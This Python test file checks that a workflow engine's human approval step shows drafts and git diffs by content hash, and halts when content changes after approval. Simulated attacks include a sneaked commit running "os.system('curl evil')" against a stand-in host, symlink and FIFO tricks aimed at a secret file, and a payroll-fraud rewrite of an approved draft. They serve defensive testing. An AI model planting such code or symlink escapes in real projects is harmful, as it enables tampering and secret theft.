"""A human step's proposal is built from declared parts of the task's state and from
declared artifacts by content hash; nothing is acted on that the hash does not cover."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from people.support import People
from statewright.definition.loader import workflow_from_dict
from statewright.definition.model import Workflow
from statewright.machine.state import TaskStatus
from statewright.runtime.engine import Engine
from statewright.runtime.verify import verify_task
from statewright.runtime.worker import Worker

STEPS = "results.res_steps"
WRITE_DRAFT = "open('draft.txt', 'w').write('Release 1.4 ships on Friday.')"


def _publish_note(effect: Path, **approve: Any) -> Workflow:
    """draft (writes draft.txt) -> approve (shows it by hash) -> publish (copies it out)."""
    return workflow_from_dict({"workflow": "publish-note", "steps": [
        {"id": "draft", "kind": "code", "owner": "writers", "run": {"command": [sys.executable, "-c", WRITE_DRAFT]}},
        {"id": "approve", "kind": "human", "owner": "editors", "approvers": {"role": "editor"},
         "artifacts": ["draft.txt"], **approve},
        {"id": "publish", "kind": "code", "owner": "writers",
         "run": {"command": ["sh", "-c", f"cat draft.txt >> {effect}"]}},
    ]}, "<publish-note>")


def _drain(engine: Engine) -> None:
    Worker(engine).run(until_idle=True)


def _start(engine: Engine, wf: Workflow, ws: Path, **extra: Any) -> str:
    ws.mkdir(exist_ok=True)
    tid = engine.submit(wf, {"workspace": str(ws), **extra})
    _drain(engine)
    return tid


def test_the_proposal_shows_the_declared_artifact_by_content_hash(engine: Engine, tmp_path: Path) -> None:
    tid = _start(engine, _publish_note(tmp_path / "out.txt"), tmp_path / "ws")
    st = engine.state(tid)
    assert st.status is TaskStatus.AWAITING_APPROVAL
    captured = st.current.captured["draft.txt"]
    import hashlib

    assert captured["sha256"] == hashlib.sha256(b"Release 1.4 ships on Friday.").hexdigest()
    assert captured["text"] == "Release 1.4 ships on Friday."
    from statewright.approvals.proposal import build_proposal

    proposal = build_proposal(st, 1)
    assert proposal["artifacts"] == {"draft.txt": {"sha256": captured["sha256"], "bytes": 28}}


def test_a_draft_changed_after_the_hash_was_shown_is_never_published(engine: Engine, tmp_path: Path) -> None:
    """The publish-note attack: the approver reviews the draft, someone rewrites it, the
    approval quotes the hash shown. The publish step does not run; the task halts at the
    approval with artifact_changed, and the changed text reaches nobody."""
    effect = tmp_path / "published.txt"
    ws = tmp_path / "ws"
    tid = _start(engine, _publish_note(effect), ws)
    shown = engine.state(tid).current.proposal_hash
    (ws / "draft.txt").write_text("Send the payroll to IBAN XX00 0000.")
    engine.approve(tid, People(engine).add("eve-editor", "editor"), proposal_hash=shown)
    _drain(engine)
    st = engine.state(tid)
    assert st.status is TaskStatus.HALTED
    assert (st.halt.step, st.halt.reason) == ("approve", "artifact_changed")
    assert "draft.txt changed after it was approved" in st.halt.detail
    assert not effect.exists()
    assert verify_task(engine, tid) == []


def test_an_unchanged_draft_is_published_once_and_the_approval_records_its_hash(
    engine: Engine, tmp_path: Path
) -> None:
    effect = tmp_path / "published.txt"
    tid = _start(engine, _publish_note(effect), tmp_path / "ws")
    st = engine.state(tid)
    engine.approve(tid, People(engine).add("ed", "editor"), proposal_hash=st.current.proposal_hash)
    _drain(engine)
    done = engine.state(tid)
    assert done.status is TaskStatus.COMPLETED, done.halt
    assert effect.read_text() == "Release 1.4 ships on Friday."
    gate = done.attempts_of("approve")[-1]
    assert gate.verdict["artifacts"]["draft.txt"]["sha256"] == st.current.captured["draft.txt"]["sha256"]
    assert gate.artifacts == {"draft.txt": "Release 1.4 ships on Friday."}


def test_after_artifact_changed_a_retry_asks_again_with_the_new_content(engine: Engine, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    tid = _start(engine, _publish_note(tmp_path / "out.txt"), ws)
    people = People(engine)
    engine.approve(tid, people.add("ed", "editor"), proposal_hash=engine.state(tid).current.proposal_hash)
    (ws / "draft.txt").write_text("v2")
    _drain(engine)
    ops = people.add("olga", "operator")
    engine.retry(tid, ops, "the draft was revised on purpose")
    _drain(engine)
    st = engine.state(tid)
    assert st.status is TaskStatus.AWAITING_APPROVAL
    assert st.current.captured["draft.txt"]["text"] == "v2"


@pytest.mark.parametrize("how", ["missing", "symlink", "fifo", "outside"])
def test_a_declared_artifact_that_cannot_be_read_fails_the_approval_step(
    engine: Engine, tmp_path: Path, how: str
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("the worker's secret")
    make = {
        "missing": "true",
        "symlink": f"ln -s {secret} draft.txt",
        "fifo": "mkfifo draft.txt",
        "outside": f"mkdir -p {tmp_path}/elsewhere && ln -s {tmp_path}/elsewhere d && cp {secret} d/x.txt",
    }[how]
    name = "d/x.txt" if how == "outside" else "draft.txt"
    wf = workflow_from_dict({"workflow": "bad-artifact", "steps": [
        {"id": "draft", "kind": "code", "owner": "w", "run": {"command": ["sh", "-c", make]}},
        {"id": "approve", "kind": "human", "owner": "e", "approvers": {"role": "editor"}, "artifacts": [name]},
    ]}, "<bad>")
    tid = _start(engine, wf, ws)
    st = engine.state(tid)
    assert st.status is TaskStatus.HALTED, st.status
    assert (st.halt.step, st.halt.reason) == ("approve", "missing_artifact")
    assert "secret" not in repr(engine.store.events(tid))


def test_a_declared_proposal_shows_exactly_those_parts_of_the_state(engine: Engine, tmp_path: Path) -> None:
    wf = workflow_from_dict({"workflow": "declared", "steps": [
        {"id": "analyse", "kind": "code", "owner": "risk", "run": {"callable": f"{STEPS}:analyse"}},
        {"id": "approve", "kind": "human", "owner": "fin", "approvers": {"role": "finance"},
         "proposal": ["input.supplier", "results.analyse.iban"]},
    ]}, "<declared>")
    tid = _start(engine, wf, tmp_path / "ws", supplier="S-9", note="not shown")
    st = engine.state(tid)
    from statewright.approvals.proposal import build_proposal

    proposal = build_proposal(st, 1)
    assert proposal["fields"] == {"input.supplier": "S-9", "results.analyse.iban": "DE89370400440532013000"}
    assert "input" not in proposal and "steps" not in proposal


def test_a_proposal_reference_that_finds_nothing_fails_with_missing_reference(
    engine: Engine, tmp_path: Path
) -> None:
    wf = workflow_from_dict({"workflow": "missing", "steps": [
        {"id": "analyse", "kind": "code", "owner": "risk", "run": {"callable": f"{STEPS}:analyse"}},
        {"id": "approve", "kind": "human", "owner": "fin", "approvers": {"role": "finance"},
         "proposal": ["results.analyse.bic"]},
    ]}, "<missing>")
    tid = _start(engine, wf, tmp_path / "ws")
    st = engine.state(tid)
    assert (st.status, st.halt.reason) == (TaskStatus.HALTED, "missing_reference")
    assert "has no field 'bic'" in st.halt.detail


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, capture_output=True, text=True, check=True).stdout


def test_the_diff_of_the_work_is_shown_and_a_later_commit_voids_the_approval(
    engine: Engine, tmp_path: Path, store_url: str
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "config", "user.email", "t@example.invalid")
    _git(repo, "config", "user.name", "t")
    (repo / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "base")
    fix = ("git checkout -q -B work && printf 'def add(a, b):\\n    return a + b\\n' > calc.py "
           "&& git -c user.email=a@b -c user.name=a commit -q -am fix")
    merged = tmp_path / "merged"
    wf = workflow_from_dict({"workflow": "diffed", "steps": [
        {"id": "fix", "kind": "code", "owner": "dev", "run": {"command": ["sh", "-c", fix]}},
        {"id": "approve", "kind": "human", "owner": "leads", "approvers": {"role": "maintainer"},
         "artifacts": ["diff"]},
        {"id": "merge", "kind": "code", "owner": "dev", "run": {"command": ["sh", "-c", f"touch {merged}"]}},
    ]}, "<diffed>")
    tid = engine.submit(wf, {"workspace": str(repo), "base_ref": "main"})
    _drain(engine)
    st = engine.state(tid)
    diff = st.current.captured["diff"]
    assert "+    return a + b" in diff["text"] and diff["base"] == _git(repo, "rev-parse", "main").strip()
    review = engine.review(tid)  # what will change is the diff itself, under the hash an approval quotes
    assert review["artifacts"] == {"diff": diff["text"]} and review["proposal_hash"] == st.current.proposal_hash
    from click.testing import CliRunner

    from statewright.cli import cli

    shown = CliRunner().invoke(cli, ["review", tid, "--db", store_url])
    assert shown.exit_code == 0, shown.output
    assert "artifact diff:" in shown.output
    assert "  | -    return a - b\n  | +    return a + b" in shown.output
    (repo / "calc.py").write_text("import os; os.system('curl evil')\n")
    _git(repo, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-am", "sneak")
    engine.approve(tid, People(engine).add("alice", "maintainer"), proposal_hash=st.current.proposal_hash)
    _drain(engine)
    after = engine.state(tid)
    assert (after.status, after.halt.reason) == (TaskStatus.HALTED, "artifact_changed")
    assert not merged.exists()


def _repo_task(engine: Engine, tmp_path: Path) -> tuple[str, Path, Path]:
    """A task with a ``repo``: an ai attempt commits the fix on ``work`` in its own worktree,
    the approval shows the diff against the base pinned at submit, then a step acts on it."""
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", "-b", "main")
    (repo / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    _git(repo, "add", ".")
    _git(repo, "-c", "user.email=t@example.invalid", "-c", "user.name=t", "commit", "-q", "-m", "base")
    acted = tmp_path / "acted"
    work = {"type": "object", "properties": {"branch": {"type": "string"}, "commit": {"type": "string"}},
            "required": ["branch", "commit"]}
    wf = workflow_from_dict({"workflow": "repo-diff", "steps": [
        {"id": "implement", "kind": "ai", "owner": "dev", "output_schema": work,
         "agent": {"type": "python", "callable": f"{STEPS}:commit_fix"}},
        {"id": "approve", "kind": "human", "owner": "leads", "approvers": {"role": "maintainer"},
         "proposal": ["results.implement.branch", "results.implement.commit"], "artifacts": ["diff"]},
        {"id": "act", "kind": "code", "owner": "dev",
         "run": {"command": ["sh", "-c", f"git log -1 --format=%s > {acted}"]}},
    ]}, "<repo-diff>")
    tid = engine.submit(wf, {"repo": str(repo)})
    _drain(engine)
    return tid, repo, acted


def test_a_repo_tasks_approval_shows_the_work_branch_diff_against_the_pinned_base(
    engine: Engine, tmp_path: Path
) -> None:
    tid, repo, acted = _repo_task(engine, tmp_path)
    st = engine.state(tid)
    assert st.status is TaskStatus.AWAITING_APPROVAL, st.halt
    diff = st.current.captured["diff"]
    assert diff["base"] == st.input["base_commit"] == _git(repo, "rev-parse", "main").strip()
    assert diff["head"] == st.results["implement"]["commit"]
    assert "-    return a - b" in diff["text"] and "+    return a + b" in diff["text"]
    engine.approve(tid, People(engine).add("alice", "maintainer"), proposal_hash=st.current.proposal_hash)
    _drain(engine)
    done = engine.state(tid)
    assert done.status is TaskStatus.COMPLETED, done.halt
    assert acted.read_text() == "fix add\n"  # the act ran on the work the approver saw


def test_a_commit_added_to_a_repo_tasks_work_after_the_hash_was_shown_voids_the_approval(
    engine: Engine, tmp_path: Path
) -> None:
    tid, _repo, acted = _repo_task(engine, tmp_path)
    st = engine.state(tid)
    worktree = Path(st.attempts_of("implement")[-1].artifacts["workspace"])
    (worktree / "calc.py").write_text("import os; os.system('curl evil')\n")
    _git(worktree, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-am", "sneak")
    engine.approve(tid, People(engine).add("alice", "maintainer"), proposal_hash=st.current.proposal_hash)
    _drain(engine)
    after = engine.state(tid)
    assert (after.status, after.halt.step, after.halt.reason) == (TaskStatus.HALTED, "approve", "artifact_changed")
    assert "diff changed after it was approved" in after.halt.detail
    assert not acted.exists()
    assert verify_task(engine, tid) == []


def test_show_prints_the_proposal_and_the_artifact_text_the_hash_covers(
    engine: Engine, tmp_path: Path, store_url: str
) -> None:
    from click.testing import CliRunner

    from statewright.cli import cli

    tid = _start(engine, _publish_note(tmp_path / "out.txt"), tmp_path / "ws")
    shown = engine.state(tid).current.proposal_hash
    out = CliRunner().invoke(cli, ["show", tid, "--db", store_url])
    assert out.exit_code == 0, out.output
    assert f"proposal at approve (hash {shown}):" in out.output
    assert "artifact draft.txt:\n  | Release 1.4 ships on Friday." in out.output
    as_json = CliRunner().invoke(cli, ["show", tid, "--db", store_url, "--json"])
    import json

    review = json.loads(as_json.output)["review"]
    assert review["proposal_hash"] == shown
    assert review["artifact_texts"] == {"draft.txt": "Release 1.4 ships on Friday."}


def test_a_verdict_without_a_schema_is_proposed_and_reviewed(engine: Engine, tmp_path: Path) -> None:
    """An ai step's verdict given without an output_schema is its result: a proposal names
    it, and the review shows it among the verdicts and the results."""
    wf = workflow_from_dict({"workflow": "free", "steps": [
        {"id": "judge", "kind": "ai", "owner": "risk",
         "agent": {"type": "python", "callable": f"{STEPS}:free_verdict"}},
        {"id": "approve", "kind": "human", "owner": "leads", "approvers": {"role": "maintainer"},
         "proposal": ["results.judge.found", "results.judge.risk"]},
    ]}, "<free>")
    tid = _start(engine, wf, tmp_path / "ws", supplier="S-7")
    st = engine.state(tid)
    assert st.status is TaskStatus.AWAITING_APPROVAL, st.halt
    review = engine.review(tid)
    assert review["proposal"]["fields"] == {"results.judge.found": "S-7", "results.judge.risk": ["new account"]}
    assert [v["verdict"] for v in review["verdicts"]] == [{"found": "S-7", "risk": ["new account"]}]
    assert review["results"] == {"judge": {"found": "S-7", "risk": ["new account"]}}


def test_the_default_proposal_shows_no_result_the_latest_attempt_did_not_record(
    engine: Engine, tmp_path: Path,
) -> None:
    """After a loop-back whose attempt gave no verdict, the proposal shows that attempt and
    no result of the step: never the earlier attempt's."""
    wf = workflow_from_dict({"workflow": "again", "steps": [
        {"id": "judge", "kind": "ai", "owner": "risk",
         "agent": {"type": "python", "callable": f"{STEPS}:verdict_once"}},
        {"id": "gate", "kind": "code", "owner": "risk", "run": {"callable": f"{STEPS}:gate"},
         "on_failure": {"loop_back": "judge", "max_attempts": 2}},
        {"id": "approve", "kind": "human", "owner": "leads", "approvers": {"role": "maintainer"}},
    ]}, "<again>")
    tid = _start(engine, wf, tmp_path / "ws")
    st = engine.state(tid)
    assert st.status is TaskStatus.AWAITING_APPROVAL, st.halt
    [judged] = [s for s in engine.review(tid)["proposal"]["steps"] if s["step"] == "judge"]
    assert (judged["attempt"], judged["verdict"]) == (2, None)
    assert "result" not in judged
